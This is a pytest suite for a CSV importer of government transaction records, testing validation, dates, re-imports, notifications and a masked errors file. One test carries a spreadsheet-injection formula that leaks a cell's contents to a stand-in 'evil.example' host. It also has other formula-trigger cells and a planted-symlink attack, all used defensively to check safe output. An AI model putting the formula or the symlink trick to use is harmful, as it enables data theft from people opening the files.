from __future__ import annotations

import csv
import os
import stat
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import func, select

from core.messaging.models import Notification
from core.platform.errors import InvalidRequest
from core.transactions import importer
from core.transactions.demo import plan_demo
from core.transactions.importer import import_file
from core.transactions.inquiry import InquiryRequest
from core.transactions.models import Transaction, TransactionEvent
from tests import factories as f

REPO = Path(__file__).resolve().parents[2]
COLUMNS = ["number", "registered_at", "subject", "applicant_name", "national_id", "mobile",
           "email", "lang", "department", "referred_at", "outgoing_number",
           "destination_agency", "issued_at", "reply_expected", "reply_received_at",
           "closed_at"]


def row(number: str = "4471001", **values) -> dict[str, str]:
    return {"number": number, "registered_at": "2025-10-05T09:15:00+03:00",
            "subject": "طلب إفادة", "applicant_name": "نورة عبدالله الحربي",
            "national_id": f.NATIONAL_ID, "mobile": f.MOBILE, "email": "", "lang": "ar",
            **values}


def write_csv(path: Path, rows: list[dict[str, str]], columns: list[str] | None = None,
              encoding: str = "utf-8") -> Path:
    columns = columns or COLUMNS
    with path.open("w", encoding=encoding, newline="") as out:
        writer = csv.DictWriter(out, columns, extrasaction="ignore")
        writer.writeheader()
        for values in rows:
            writer.writerow({name: values.get(name, "") for name in columns})
    return path


@pytest.fixture
def reference(core):
    core.upsert_department("RIGHTS", f.department())
    core.upsert_agency("MOI", f.agency())
    core.upsert_employee("E1", f.employee())


def count(core, model, *where) -> int:
    with core.db.read() as session:
        return session.scalar(select(func.count()).select_from(model).where(*where))


def transaction(core, number: str) -> Transaction | None:
    with core.db.read() as session:
        return session.scalar(select(Transaction).where(Transaction.number == number))


def test_rows_become_transactions_in_the_stage_the_file_gives(core, reference, tmp_path):
    path = write_csv(tmp_path / "in.csv", [
        row("4471001"),
        row("4471002", department="RIGHTS"),
        row("4471003", department="RIGHTS", referred_at="2025-10-06T08:00:00+03:00",
            outgoing_number="9120451", destination_agency="وزارة الداخلية",
            issued_at="2025-10-12T10:15:00+03:00", reply_expected="نعم"),
        row("4471004", department="RIGHTS", outgoing_number="9120452",
            destination_agency="MOI", issued_at="2025-10-12", reply_expected="yes",
            reply_received_at="2025-10-20", closed_at="2025-10-22"),
    ])

    report = import_file(core, path)

    assert (report.rows, report.imported, report.rejected) == (4, 4, 0)
    assert [transaction(core, n).status for n in ("4471001", "4471002", "4471003",
                                                   "4471004")] == \
        ["registered", "referred", "issued", "closed"]
    issued = transaction(core, "4471003")
    assert issued.outgoing_number == "9120451"
    assert issued.reply_expected is True
    assert issued.destination_agency.code == "MOI"
    assert count(core, TransactionEvent,
                 TransactionEvent.event_id == "import:4471004:reply_received") == 1


def test_a_date_alone_is_midnight_in_riyadh(core, tmp_path):
    import_file(core, write_csv(tmp_path / "in.csv", [row(registered_at="2025-10-05")]))

    assert transaction(core, "4471001").registered_at == datetime(2025, 10, 4, 21, 0,
                                                                  tzinfo=UTC)


def test_a_time_without_offset_is_local_time(core, tmp_path):
    import_file(core, write_csv(tmp_path / "in.csv",
                                [row(registered_at="2025-10-05 09:30")]))

    assert transaction(core, "4471001").registered_at == datetime(2025, 10, 5, 6, 30,
                                                                  tzinfo=UTC)


@pytest.mark.parametrize(("values", "reason"), [
    ({"number": "12ab"}, "number: "),
    ({"national_id": "101234567"}, "national_id: National ID must be exactly 10 digits."),
    ({"national_id": "3012345678"}, "national_id: National ID must start with 1"),
    ({"mobile": "0112345678"}, "mobile: Phone number is not a mobile number."),
    ({"email": "not-an-address"}, "email: is not an e-mail address"),
    ({"lang": "fr"}, "lang: "),
    ({"subject": ""}, "subject: a registered event needs transaction.subject"),
    ({"applicant_name": " "}, "applicant_name: "),
    ({"registered_at": "05/10/2025"}, "registered_at: '05/10/2025' is not an ISO 8601"),
    ({"registered_at": ""}, "registered_at: is required"),
    ({"registered_at": "2999-01-01"}, "registered_at is in the future"),
    ({"department": "NOWHERE"}, "department NOWHERE is not known"),
    ({"referred_at": "2025-10-06"}, "referred_at: given without a department"),
    ({"outgoing_number": "9120451", "destination_agency": "MOI"},
     "issued_at: is required with outgoing_number"),
    ({"issued_at": "2025-10-06", "destination_agency": "MOI"},
     "an issued event needs outgoing_number"),
    ({"outgoing_number": "1", "destination_agency": "NASA", "issued_at": "2025-10-06"},
     "agency NASA is not known"),
    ({"outgoing_number": "1", "destination_agency": "MOI", "issued_at": "2025-10-01"},
     "issued_at is earlier than the transaction's last event"),
    ({"outgoing_number": "1", "destination_agency": "MOI", "issued_at": "2025-10-06",
      "reply_expected": "maybe"}, "reply_expected: 'maybe' is not yes or no"),
    ({"outgoing_number": "1", "destination_agency": "MOI", "issued_at": "2025-10-06",
      "reply_received_at": "2025-10-07"},
     "transaction 4471002 was issued with no reply expected"),
])
def test_a_bad_row_is_rejected_whole_with_its_line_and_reason(core, reference, tmp_path,
                                                              values, reason):
    path = write_csv(tmp_path / "in.csv", [row("4471001"), row(**{"number": "4471002",
                                                                  **values}),
                                           row("4471003")])

    report = import_file(core, path)

    assert (report.imported, report.rejected) == (2, 1)
    [error] = report.errors
    assert error.line == 3
    assert error.number == values.get("number", "4471002")
    assert error.reason.startswith(reason), error.reason
    assert transaction(core, values.get("number", "4471002")) is None
    assert f"line 3 (number {error.number}): {error.reason}" == str(error)


def test_a_row_with_the_wrong_number_of_fields_is_rejected(core, tmp_path):
    path = tmp_path / "in.csv"
    path.write_text("number,registered_at,subject,applicant_name\n"
                    "4471001,2025-10-05,طلب,نورة,extra\n", encoding="utf-8")

    report = import_file(core, path)

    assert report.errors[0].reason == "has 5 fields, the header has 4"


def test_importing_the_same_file_again_changes_nothing(core, reference, tmp_path):
    path = write_csv(tmp_path / "in.csv", [
        row("4471001"),
        row("4471002", department="RIGHTS", outgoing_number="1", destination_agency="MOI",
            issued_at="2025-10-07", reply_expected="1"),
    ])
    import_file(core, path)
    events = count(core, TransactionEvent)

    again = import_file(core, path)

    assert (again.imported, again.already_present, again.rejected) == (0, 2, 0)
    assert count(core, TransactionEvent) == events == 4


def test_a_later_export_adds_the_new_events_of_a_known_transaction(core, reference,
                                                                    tmp_path):
    import_file(core, write_csv(tmp_path / "one.csv", [row("4471001")]))

    report = import_file(core, write_csv(tmp_path / "two.csv",
                                         [row("4471001", department="RIGHTS")]))

    assert report.imported == 1
    assert transaction(core, "4471001").status == "referred"


def test_the_same_number_with_other_details_is_rejected(core, tmp_path):
    path = write_csv(tmp_path / "in.csv", [row("4471001"),
                                           row("4471001", subject="موضوع آخر")])

    report = import_file(core, path)

    assert report.imported == 1
    assert report.errors[0].reason == ("transaction 4471001 was already imported with other "
                                       "details (or appears twice in the file)")


def test_a_transaction_registered_through_the_api_counts_as_present(core, tmp_path):
    core.record_event(f.registered("4471001"))

    report = import_file(core, write_csv(tmp_path / "in.csv", [row("4471001")]))

    assert (report.imported, report.already_present, report.rejected) == (0, 1, 0)


def test_without_notify_no_outbox_rows_are_written(core, reference, tmp_path):
    core.record_event(f.registered("5550001"))  # an earlier, real message stays queued
    path = write_csv(tmp_path / "in.csv", [
        row("4471001"),
        row("4471002", department="RIGHTS", outgoing_number="1", destination_agency="MOI",
            issued_at="2025-10-07"),
    ])

    report = import_file(core, path)

    assert report.imported == 2
    assert report.notifications == 0
    assert "no notifications written (--no-notify)" in report.summary()
    with core.db.read() as session:
        keys = session.scalars(select(Notification.cause_key)).all()
    assert len(keys) == 1
    assert not any("import:" in key for key in keys)


def test_with_notify_the_applicants_are_messaged(core, reference, tmp_path):
    path = write_csv(tmp_path / "in.csv", [
        row("4471001"),
        row("4471002", department="RIGHTS", outgoing_number="1", destination_agency="MOI",
            issued_at="2025-10-07"),
        row("4471003", mobile=""),
    ])

    report = import_file(core, path, notify=True)

    assert report.notifications == 3
    with core.db.read() as session:
        kinds = sorted(session.scalars(select(Notification.kind)
                                       .where(Notification.status == "pending")).all())
    assert kinds == ["issuance", "registration", "registration"]


def test_a_file_with_a_bom_imports(core, tmp_path):
    path = write_csv(tmp_path / "in.csv", [row("4471001")], encoding="utf-8-sig")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")

    report = import_file(core, path)

    assert report.imported == 1


def test_arabic_indic_digits_are_accepted(core, tmp_path):
    path = write_csv(tmp_path / "in.csv", [row(
        "٤٤٧١٠٠١", registered_at="٢٠٢٥-١٠-٠٥", national_id="١٠١٢٣٤٥٦٧" + f.NATIONAL_ID[-1],
        mobile="٠٥٥١٢٣٤٥٦٧")])
    assert f.NATIONAL_ID.startswith("101234567")

    report = import_file(core, path)

    assert report.imported == 1
    txn = transaction(core, "4471001")
    assert txn.applicant_mobile == f.MOBILE_E164
    answer = core.inquire(InquiryRequest(channel="kiosk", number_text="4471001",
                                         national_id=f.NATIONAL_ID))
    assert answer.found


@pytest.mark.parametrize(("header", "message"), [
    (["number", "registered_at", "applicant_name"], "missing column(s): subject"),
    (["number", "registered_at", "subject", "applicant_name", "mobil"],
     "unknown column(s): mobil"),
    (["number", "registered_at", "subject", "applicant_name", "Number"],
     "column(s) given twice: number"),
])
def test_a_bad_header_stops_the_import_before_any_row(core, tmp_path, header, message):
    path = write_csv(tmp_path / "in.csv", [row("4471001")], columns=header)

    with pytest.raises(InvalidRequest) as raised:
        import_file(core, path)

    assert message in raised.value.message
    assert "Nothing was imported" in raised.value.message
    assert count(core, Transaction) == 0


def test_a_semicolon_separated_file_is_explained(core, tmp_path):
    path = tmp_path / "in.csv"
    path.write_text("number;registered_at;subject;applicant_name\n", encoding="utf-8")

    with pytest.raises(InvalidRequest, match="must be comma-separated"):
        import_file(core, path)


def test_a_file_that_is_not_utf8_is_refused_before_importing(core, tmp_path):
    path = write_csv(tmp_path / "in.csv", [row("4471001"), row("4471002")],
                     encoding="cp1256")

    with pytest.raises(InvalidRequest, match="not UTF-8"):
        import_file(core, path)
    assert count(core, Transaction) == 0


def test_blank_lines_are_skipped_and_line_numbers_stay_true(core, tmp_path):
    path = tmp_path / "in.csv"
    path.write_text(
        "number,registered_at,subject,applicant_name,mobile\n"
        "4471001,2025-10-05,\"طلب\nعلى سطرين\",نورة,\n"
        "\n"
        "4471002,2025-10-05,طلب,نورة,123\n", encoding="utf-8")

    report = import_file(core, path)

    assert (report.rows, report.imported) == (2, 1)
    assert report.errors[0].line == 5


def test_rows_are_committed_in_batches_and_a_bad_row_stops_nothing(core, tmp_path,
                                                                   monkeypatch):
    monkeypatch.setattr(importer, "BATCH_ROWS", 2)
    rows = [row(f"447100{i}") for i in range(1, 6)]
    rows[2]["national_id"] = "1"

    report = import_file(core, write_csv(tmp_path / "in.csv", rows))

    assert (report.imported, report.rejected) == (4, 1)
    assert count(core, Transaction) == 4


def test_the_errors_file_lists_rejected_rows_and_imports_once_corrected(core, tmp_path):
    errors = tmp_path / "out" / "errors.csv"
    errors.parent.mkdir()  # a folder that does not exist is refused (test_cli_errors.py)
    path = write_csv(tmp_path / "in.csv", [row("4471001"), row("4471002", mobile="123")])

    report = import_file(core, path, errors_path=errors)

    assert f"rejected rows and their reasons: {errors}" in report.summary()
    with errors.open(encoding="utf-8-sig", newline="") as handle:
        rejected = list(csv.DictReader(handle))
    assert [(r["number"], r["mobile"]) for r in rejected] == [("4471002", "123")]
    assert rejected[0]["reason"].startswith("mobile: ")
    assert rejected[0]["subject"] == "طلب إفادة"

    rejected[0]["mobile"] = f.OTHER_MOBILE
    # The ID is masked in the errors file: it is filled in again from the original.
    assert rejected[0]["national_id"] == "********" + f.NATIONAL_ID[-2:]
    masked = write_csv(tmp_path / "masked.csv", rejected, columns=[*COLUMNS, "reason"])
    [error] = import_file(core, masked).errors
    assert error.reason.startswith("national_id: masked")
    rejected[0]["national_id"] = f.NATIONAL_ID
    fixed = write_csv(tmp_path / "fixed.csv", rejected, columns=[*COLUMNS, "reason"])
    assert import_file(core, fixed).imported == 1


def rejected_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_the_errors_file_holds_no_full_id_and_only_its_owner_reads_it(core, tmp_path):
    errors = tmp_path / "errors.csv"
    errors.write_text("an older errors file, world-readable\n")
    errors.chmod(0o644)
    old_umask = os.umask(0o022)
    try:
        import_file(core, write_csv(tmp_path / "in.csv", [row(mobile="123")]),
                    errors_path=errors)
    finally:
        os.umask(old_umask)

    assert stat.S_IMODE(errors.stat().st_mode) == 0o600
    content = errors.read_text(encoding="utf-8-sig")
    assert f.NATIONAL_ID not in content and f.NATIONAL_ID[:8] not in content
    assert rejected_rows(errors)[0]["national_id"] == "********" + f.NATIONAL_ID[-2:]
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_a_link_planted_at_the_errors_path_is_replaced_not_followed(core, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    errors = tmp_path / "errors.csv"
    errors.symlink_to(victim)

    import_file(core, write_csv(tmp_path / "in.csv", [row(mobile="123")]),
                errors_path=errors)

    assert victim.read_text() == "precious\n"
    assert not errors.is_symlink() and "reason" in errors.read_text(encoding="utf-8-sig")


def test_cells_a_spreadsheet_would_run_are_written_inert_and_import_as_they_were(
        core, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    rows = [row("4471001", subject=formula, applicant_name="@SUM(1+1)", mobile="123"),
            row("4471002", subject="-2+3", applicant_name="\t=cmd", mobile="+1")]
    errors = tmp_path / "errors.csv"

    import_file(core, write_csv(tmp_path / "in.csv", rows), errors_path=errors)

    first, second = rejected_rows(errors)
    assert first["subject"] == "'" + formula
    assert first["applicant_name"] == "'@SUM(1+1)"
    assert (second["subject"], second["applicant_name"], second["mobile"]) == \
        ("'-2+3", "'\t=cmd", "'+1")
    for cells in (first, second):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                       for cell in cells.values())
    # Corrected and imported again, the quote is gone: the values are the file's own.
    for cells in (first, second):
        cells.update(national_id=f.NATIONAL_ID, mobile=f.MOBILE)
    assert import_file(core, write_csv(tmp_path / "fixed.csv", [first, second],
                                       columns=[*COLUMNS, "reason"])).imported == 2
    assert transaction(core, "4471001").subject == formula
    assert transaction(core, "4471002").subject == "-2+3"


def test_the_example_file_imports_cleanly_over_the_demo_reference_data(core):
    plan = plan_demo(seed=1, transactions=1, now=datetime.now(UTC))
    for code, body in plan.departments:
        core.upsert_department(code, body)
    for code, body in plan.agencies:
        core.upsert_agency(code, body)

    report = import_file(core, REPO / "docs" / "import-example.csv")

    assert (report.rows, report.imported, report.rejected) == (11, 11, 0), report.errors
    assert count(core, Notification) == 0


def test_the_progress_bar_goes_to_stderr_only_when_asked(core, tmp_path, capsys):
    path = write_csv(tmp_path / "in.csv", [row("4471001"), row("4471002")])

    import_file(core, path)
    assert capsys.readouterr().err == ""
    import_file(core, path, progress=True)
    captured = capsys.readouterr()
    assert "2/2" in captured.err
    assert captured.out == ""
